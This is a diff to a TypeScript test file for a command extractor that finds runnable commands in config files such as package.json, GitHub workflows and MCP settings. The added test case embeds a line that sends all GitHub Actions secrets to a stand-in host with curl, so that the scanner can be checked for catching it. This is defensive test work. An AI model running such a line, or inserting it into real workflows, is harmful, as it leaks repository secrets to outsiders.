@@ -2,12 +2,15 @@ import fc from 'fast-check'
 import { expect, test } from 'vitest'
 import { findCommands } from './command-places.ts'
 
+const SENT = `echo "\${{ toJSON(secrets) }}" | curl -d @- c.example`
+
 test.for([
   ['package.json', { scripts: { postinstall: 'a', test: 'b' } }, ['a']],
   ['.vscode/tasks.json', { tasks: [{ command: 'a' }] }, ['a']],
   ['dvc.yaml', { stages: { train: { cmd: ['a', 'b'] } } }, ['a', 'b', 'a b']],
   ['MLproject', { entry_points: { main: { command: 'a\nb' } } }, ['a', 'b']],
   ['.github/workflows/a.yml', { jobs: { a: { steps: [{ run: 'a' }] } } }, []],
+  ['.github/workflows/a.yml', { jobs: { a: { steps: [{ run: `make\n${SENT}` }] } } }, [SENT]],
   ['.mcp.json', { mcpServers: { a: { command: 'sh', args: ['-c', 'a'] } } }, ['-c', 'a', '-c a', 'sh']],
   ['data.json', { command: 'a' }, []],
 ] as const)('%s: %j has the commands %j', ([name, root, texts]) => {
